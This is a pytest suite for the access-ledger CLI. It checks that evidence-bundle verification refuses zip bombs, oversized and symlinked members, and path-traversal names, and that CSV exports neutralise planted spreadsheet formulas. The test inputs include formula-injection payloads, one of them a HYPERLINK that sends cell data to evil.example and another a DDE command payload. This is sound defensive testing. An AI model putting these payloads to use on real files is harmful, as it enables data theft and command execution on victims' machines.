"""Hostile bundles, formula-safe CSV, owner-only files, no password written, tampered ledgers (#16).

Each hostile bundle is checked by `access-ledger evidence verify` in a subprocess run under
/usr/bin/time: one line on stderr naming the member, exit 1, peak RSS < 512 MB, and a bounded time.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
import subprocess
import sys
import time
import uuid
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from access_ledger.cli import app
from access_ledger.demo.generator import generate
from ledger.app import AccessLedger
from ledger.private import csv_safe, scrub

runner = CliRunner()
END = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
SHAPE = dict(events=800, users=12, tenants=2, roles=5, assignments=40, days=40)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|x"]
MEMORY_LIMIT_KB = 512 * 1024
TIME_LIMIT = 60.0


def _planted_lines() -> list[bytes]:
    """A generated history whose reasons and secret-access contexts are spreadsheet formulas."""
    out = []
    for i, line in enumerate(generate("large", END, **SHAPE).lines()):
        event = json.loads(line)
        if i > 0 and "reason" in event:
            event["reason"] = HOSTILE[i % len(HOSTILE)]
        if event["type"] == "ConnectorSecretAccessed":
            event["context"] = HOSTILE[(i + 1) % len(HOSTILE)]
        out.append(json.dumps(event, separators=(",", ":")).encode())
    return out


@pytest.fixture(scope="module")
def ledger_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "ledger.db"
    with AccessLedger.open(str(db), create=True) as led:
        led.import_lines(_planted_lines())
    return db


@pytest.fixture(scope="module")
def bundle(ledger_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("bundles") / "b"
    result = runner.invoke(app, ["--db", str(ledger_db), "evidence", "export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _verify(target: Path) -> tuple[int, str, str, int, float]:
    """Run `evidence verify` in a subprocess: (exit code, stdout, stderr without time's line, peak RSS kB, s)."""
    started = time.monotonic()
    measured = target.parent / f".time-{uuid.uuid4().hex[:8]}"
    done = subprocess.run(
        [
            "/usr/bin/time",
            "-o",
            str(measured),
            "-f",
            "maxrss=%M",
            sys.executable,
            "-c",
            "from access_ledger.cli import main; main()",
            "evidence",
            "verify",
            str(target),
        ],
        capture_output=True,
        text=True,
        timeout=TIME_LIMIT * 2,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])},
    )
    seconds = time.monotonic() - started
    rss = int(measured.read_text().splitlines()[-1].removeprefix("maxrss="))
    measured.unlink()
    return done.returncode, done.stdout, done.stderr, rss, seconds


def _assert_refused(target: Path, member: str) -> str:
    code, out, err, rss, seconds = _verify(target)
    assert code == 1, (out, err)
    assert len(err.splitlines()) == 1, err
    assert "Traceback" not in out + err and "unexpected" not in err
    assert member in out + err, (out, err)
    assert rss < MEMORY_LIMIT_KB, f"peak RSS {rss} kB"
    assert seconds < TIME_LIMIT
    return out + err


def _zip_of(
    bundle: Path,
    target: Path,
    *,
    extra: list[tuple[str, bytes]] = (),
    skip: set[str] = frozenset(),
    manifest: bytes | None = None,
) -> Path:
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for path in sorted(p for p in bundle.rglob("*") if p.is_file()):
            rel = path.relative_to(bundle).as_posix()
            if rel in skip or (rel == "manifest.json" and manifest is not None):
                continue
            z.write(path, rel)
        if manifest is not None:
            z.writestr("manifest.json", manifest)
        for name, data in extra:
            z.writestr(name, data)
    return target


def test_the_honest_bundle_verifies(bundle, tmp_path):
    code, out, err, rss, _ = _verify(bundle)
    assert code == 0, (out, err)
    assert _verify(_zip_of(bundle, tmp_path / "b.zip"))[0] == 0
    assert rss < MEMORY_LIMIT_KB


def test_a_zip_whose_manifest_inflates_hugely_is_refused_before_it_is_read(tmp_path):
    target = tmp_path / "bomb.zip"
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("manifest.json", "w", force_zip64=True) as f:
            f.write(b'{"format": "access-ledger-evidence/1", "files": {}, "x": "')
            chunk = b" " * (1 << 20)
            for _ in range(256):  # 256 MiB of manifest in a zip of a few hundred kB
                f.write(chunk)
            f.write(b'"}')
    assert target.stat().st_size < 2 << 20
    assert "manifest.json" in _assert_refused(target, "manifest.json")


def test_a_member_larger_than_its_bytes_is_refused_without_reading_it(bundle, tmp_path):
    folder = tmp_path / "f"
    shutil.copytree(bundle, folder)
    with open(folder / "events" / "events.jsonl", "r+b") as f:
        f.truncate(8 << 30)  # 8 GiB (sparse): reading it to the end would take minutes
    text = _assert_refused(folder, "events/events.jsonl")
    assert "more than the" in text
    target = tmp_path / "big.zip"
    _zip_of(bundle, target, skip={"events/events.jsonl"}, extra=[("events/events.jsonl", b"\0" * (64 << 20))])
    assert "more than the" in _assert_refused(target, "events/events.jsonl")


@pytest.mark.parametrize("kind", ["fifo", "symlink-to-dev-zero", "symlinked-folder"])
def test_only_regular_files_are_read_in_a_folder_bundle(bundle, tmp_path, kind):
    folder = tmp_path / "f"
    shutil.copytree(bundle, folder)
    member = folder / "events" / "events.jsonl"
    member.unlink()
    if kind == "fifo":
        os.mkfifo(member)
    elif kind == "symlink-to-dev-zero":
        member.symlink_to("/dev/zero")
    else:
        shutil.move(folder / "events", tmp_path / "elsewhere")
        (folder / "events").symlink_to(tmp_path / "elsewhere")
        (tmp_path / "elsewhere" / "events.jsonl").write_bytes(b"")
    text = _assert_refused(folder, "events/")
    assert "not a regular file" in text or "missing" in text


def test_a_symlinked_manifest_is_refused(bundle, tmp_path):
    folder = tmp_path / "f"
    shutil.copytree(bundle, folder)
    (folder / "manifest.json").unlink()
    (folder / "manifest.json").symlink_to("/dev/zero")
    assert "not a regular file" in _assert_refused(folder, "manifest.json")


def test_a_duplicate_member_is_refused(bundle, tmp_path):
    import warnings

    target = tmp_path / "dup.zip"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is told to write
        _zip_of(bundle, target, extra=[("events/events.jsonl", b'{"type": "other"}\n')])
    assert "more than once" in _assert_refused(target, "events/events.jsonl")


@pytest.mark.parametrize("name", ["../outside.txt", "events/../../x", "/etc/passwd", "events//x", "a\\b", "./x"])
def test_unsafe_member_names_are_refused(bundle, tmp_path, name):
    target = _zip_of(bundle, tmp_path / "names.zip", extra=[(name, b"x")])
    with zipfile.ZipFile(target) as z:
        assert name in z.namelist() or name.lstrip("/") in z.namelist()
    _assert_refused(target, "member")


def test_a_file_that_is_also_a_folder_is_refused(bundle, tmp_path):
    target = _zip_of(bundle, tmp_path / "both.zip", extra=[("events", b"x")])
    assert "both a file and a folder" in _assert_refused(target, "events")


def test_a_bad_crc_names_the_member(bundle, tmp_path):
    target = tmp_path / "crc.zip"
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_STORED) as z:
        for path in sorted(p for p in bundle.rglob("*") if p.is_file()):
            z.write(path, path.relative_to(bundle).as_posix())
    with zipfile.ZipFile(target) as z:
        info = z.getinfo("digest.json")
    data = bytearray(target.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 5] ^= 0x01  # one bit of the stored data, the CRC left as it was
    target.write_bytes(bytes(data))
    text = _assert_refused(target, "digest.json")
    assert "CRC" in text


def test_an_encrypted_member_names_the_member(bundle, tmp_path):
    target = _zip_of(bundle, tmp_path / "enc.zip")
    with zipfile.ZipFile(target) as z:
        info = z.getinfo("report.html")
    data = bytearray(target.read_bytes())
    data[info.header_offset + 6] |= 0x01  # the local header's "encrypted" flag
    central = data.find(b"PK\x01\x02")
    while (
        data[central + 46 : central + 46 + int.from_bytes(data[central + 28 : central + 30], "little")]
        != b"report.html"
    ):
        central = data.find(b"PK\x01\x02", central + 4)
        assert central >= 0
    data[central + 8] |= 0x01  # and the central directory's
    target.write_bytes(bytes(data))
    assert "encrypted" in _assert_refused(target, "report.html")


@pytest.mark.parametrize(
    "edit, member",
    [
        (lambda m: m.update(files=[]), '"files"'),
        (lambda m: m["files"]["digest.json"].update(bytes="12"), "digest.json"),
        (lambda m: m["files"]["digest.json"].update(bytes=True), "digest.json"),
        (lambda m: m["files"]["report.html"].update(sha256=5), "report.html"),
        (lambda m: m["files"].update({"charts/x.csv": "abc"}), "charts/x.csv"),
        (lambda m: m["files"].update({"../x": m["files"]["digest.json"]}), "../x"),
        (lambda m: m.update(period=[1]), '"period"'),
        (lambda m: m.update(signature="x"), '"signature"'),
    ],
    ids=[
        "files-list",
        "bytes-text",
        "bytes-bool",
        "sha-number",
        "entry-text",
        "entry-traversal",
        "period-list",
        "signature-text",
    ],
)
def test_manifest_entries_of_the_wrong_type_are_named(bundle, tmp_path, edit, member):
    manifest = json.loads((bundle / "manifest.json").read_text())
    edit(manifest)
    folder = tmp_path / "f"
    shutil.copytree(bundle, folder)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    _assert_refused(folder, member)
    _assert_refused(_zip_of(bundle, tmp_path / "w.zip", manifest=json.dumps(manifest).encode()), member)


# -- CSV: no cell a spreadsheet takes for a formula -------------------------------------------


def _formula_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row if cell != csv_safe(cell)]


def test_no_csv_the_tool_writes_has_a_formula_leading_cell(ledger_db, bundle, tmp_path):
    written = sorted(bundle.rglob("*.csv"))
    for audit in ("review", "least-privilege", "secrets", "sod", "changes", "hygiene", "reviews", "authority"):
        out = tmp_path / f"{audit}.csv"
        result = runner.invoke(
            app,
            [
                "--db",
                str(ledger_db),
                "audit",
                audit,
                "--format",
                "csv",
                "--out",
                str(out),
                *(["--from", "2025-01-01", "--to", "2026-04-01"] if audit in ("secrets", "changes") else []),
            ],
        )
        assert result.exit_code == 0, result.output
        written.append(out)
    assert len(written) > 10
    planted = 0
    for path in written:
        assert _formula_cells(path) == [], path
        planted += sum(
            cell.startswith(("'=", "'+", "'@", "'-", "'\t", "'\r"))
            for row in csv.reader(path.open(newline="", encoding="utf-8"))
            for cell in row
        )
    assert planted > 0  # the planted formulas did reach the CSV files, neutralised
    # The Parquet files (every row) keep the exact text.
    cells = {
        v
        for p in bundle.glob("audits/*.parquet")
        for row in pq.read_table(p).to_pylist()
        for v in row.values()
        if isinstance(v, str)
    }
    assert set(HOSTILE) & cells


def test_csv_safe_follows_owasp():
    assert [csv_safe(t) for t in ["=1", "+1", "@a", "\tx", "\rx", "-x", "-5", "-0.25", "-inf", "a=b", ""]] == [
        "'=1",
        "'+1",
        "'@a",
        "'\tx",
        "'\rx",
        "'-x",
        "-5",
        "-0.25",
        "'-inf",
        "a=b",
        "",
    ]


# -- owner-only files -------------------------------------------------------------------------


def test_every_file_written_is_owner_only_under_umask_022(ledger_db, tmp_path):
    old = os.umask(0o022)
    try:
        out = tmp_path / "out"
        out.mkdir()
        commands = [
            ["evidence", "export", "--out", str(out / "bundle")],
            ["evidence", "export", "--zip", "--out", str(out / "bundle.zip")],
            ["export", "--out", str(out / "events.jsonl")],
            ["audit", "hygiene", "--format", "csv", "--out", str(out / "hygiene.csv")],
            ["digest", "--out", str(out / "digest.json")],
        ]
        (out / "digest.json").write_text("{}")  # an existing 0644 file is made owner-only too
        os.chmod(out / "digest.json", 0o644)
        for command in commands:
            result = runner.invoke(app, ["--db", str(ledger_db), *command])
            assert result.exit_code == 0, (command, result.output)
    finally:
        os.umask(old)
    paths = [p for p in out.rglob("*")]
    assert len(paths) > 20
    for p in paths:
        mode = stat.S_IMODE(p.stat().st_mode)
        assert mode == (0o700 if p.is_dir() else 0o600), (p, oct(mode))


# -- no password written ----------------------------------------------------------------------


def test_scrub_removes_every_password_of_a_url():
    line = (
        "access-ledger --db 'postgresql://alice:s3cr%40t@db:5432/l?sslmode=require' evidence export --rules "
        "https://bob:pw2@host/r.toml --x 'host=db password=pw3 user=u'"
    )
    clean = scrub(line)
    for secret in ("s3cr%40t", "pw2", "pw3"):
        assert secret not in clean
    assert "postgresql://alice:***@db:5432/l" in clean and "https://bob:***@host/r.toml" in clean


@pytest.mark.skipif(not os.environ.get("ACCESS_LEDGER_TEST_PG"), reason="set ACCESS_LEDGER_TEST_PG")
def test_no_password_of_a_db_url_appears_in_any_output(tmp_path):
    from urllib.parse import urlsplit, urlunsplit

    from tests.conftest import _drop_schema

    secret = "Zq9-not-a-real-password"
    base = urlsplit(os.environ["ACCESS_LEDGER_TEST_PG"])
    user = base.username or "postgres"
    netloc = f"{user}:{secret}@{base.hostname}:{base.port or 5432}"
    schema = f"t_{uuid.uuid4().hex[:16]}"
    url = urlunsplit((base.scheme, netloc, base.path, f"schema={schema}", ""))
    try:
        with AccessLedger.open(url, create=True) as led:
            led.import_lines(generate("large", END, **SHAPE).lines())
        out = tmp_path / "out"
        out.mkdir()
        outputs = []
        for command in (
            ["evidence", "export", "--out", str(out / "bundle")],
            ["evidence", "export", "--zip", "--out", str(out / "bundle.zip")],
            ["export", "--out", str(out / "events.jsonl")],
            ["audit", "hygiene", "--format", "json", "--out", str(out / "hygiene.json")],
            ["digest", "--out", str(out / "digest.json")],
        ):
            result = runner.invoke(app, ["--db", url, *command])
            assert result.exit_code == 0, (command, result.output)
            outputs.append(result.output)
        manifest = json.loads((out / "bundle" / "manifest.json").read_text())
        assert f"{user}:***@" in manifest["command"]
        files = [p for p in out.rglob("*") if p.is_file()]
        with zipfile.ZipFile(out / "bundle.zip") as z:
            blobs = [z.read(n) for n in z.namelist()]
        assert all(secret.encode() not in p.read_bytes() for p in files)
        assert all(secret.encode() not in b for b in blobs)
        assert all(secret not in o for o in outputs)
    finally:
        _drop_schema(schema)


# -- the events file imports into a ledger holding the history before the period ---------------


def test_a_bundles_events_import_after_the_history_before_its_period(ledger_db, tmp_path):
    with AccessLedger.open(str(ledger_db)) as led:
        head, digest = led.head(), led.digest()
        start = led.time_of(head // 2)
    out = tmp_path / "part"
    result = runner.invoke(app, ["--db", str(ledger_db), "evidence", "export", "--from", start, "--out", str(out)])
    assert result.exit_code == 0, result.output
    manifest = json.loads((out / "manifest.json").read_text())
    first = manifest["period"]["first_position"]
    assert 1 < first <= head // 2
    events = (out / "events" / "events.jsonl").read_bytes()
    empty = tmp_path / "empty.db"
    refused = runner.invoke(app, ["--db", str(empty), "import", str(out / "events" / "events.jsonl")])
    assert (
        refused.exit_code != 0 and len(refused.stderr.splitlines()) == 1
    )  # alone, the period's events do not make a ledger: the README says so
    rebuilt = tmp_path / "rebuilt.db"
    with AccessLedger.open(str(ledger_db)) as led, AccessLedger.open(str(rebuilt), create=True) as new:
        new.import_lines(line for _, line in led.read_bytes(1, first - 1))
        new.import_lines(events.splitlines())
        rebuilt_digest = new.digest()
    assert {k: v for k, v in rebuilt_digest.items() if k != "generated_at"} == {
        k: v for k, v in digest.items() if k != "generated_at"
    }  # the same chain, link for link


def test_the_sql_rule_is_the_python_rule():
    import duckdb

    from ledger.private import csv_safe_sql

    samples = [
        "=1",
        "+1",
        "@a",
        "\tx",
        "\rx",
        "-x",
        "-5",
        "-0.25",
        "-1e3",
        "-inf",
        "-nan",
        "-5 ",
        "- 5",
        "-",
        "a=b",
        "",
        " =1",
        "x",
        "-2+3",
        "+5",
        "'=1",
    ]
    con = duckdb.connect()
    got = [con.execute(f"SELECT {csv_safe_sql('$t')}", {"t": t}).fetchone()[0] for t in samples]
    assert got == [csv_safe(t) for t in samples]


def test_a_zip_with_random_bytes_changed_ends_in_a_result_or_one_bundle_error(bundle, tmp_path):
    import random

    from reports.evidence import BundleError, verify_bundle

    source = _zip_of(bundle, tmp_path / "b.zip").read_bytes()
    target = tmp_path / "x.zip"
    for seed in range(200):
        rng = random.Random(seed)
        data = bytearray(source)
        for _ in range(rng.randint(1, 8)):  # mostly the headers and the central directory
            where = rng.choice(["start", "end", "end", "any"])
            pos = {
                "start": rng.randrange(4000),
                "end": len(data) - 1 - rng.randrange(3000),
                "any": rng.randrange(len(data)),
            }[where]
            data[pos] = rng.randrange(256)
        target.write_bytes(bytes(data))
        try:
            verify_bundle(target)
        except BundleError:
            pass


def test_a_folder_nested_deeper_than_the_stack_is_one_added_line(bundle, tmp_path):
    folder = tmp_path / "f"
    shutil.copytree(bundle, folder)
    deep = folder
    for _ in range(1200):
        deep = deep / "d"
        deep.mkdir()
    (deep / "x").write_bytes(b"x")
    try:
        code, out, err, rss, _ = _verify(folder)
        assert code == 1 and len(err.splitlines()) == 1, err
        name = "d/" * 1200 + "x"
        assert "added: " + name[:300] + "..." in out.splitlines()  # a name read from a bundle is shown bounded
    finally:
        # Removed bottom-up here: pytest's own clean-up (a recursive rmtree) cannot go this deep.
        (deep / "x").unlink()
        while deep != folder:
            deep.rmdir()
            deep = deep.parent
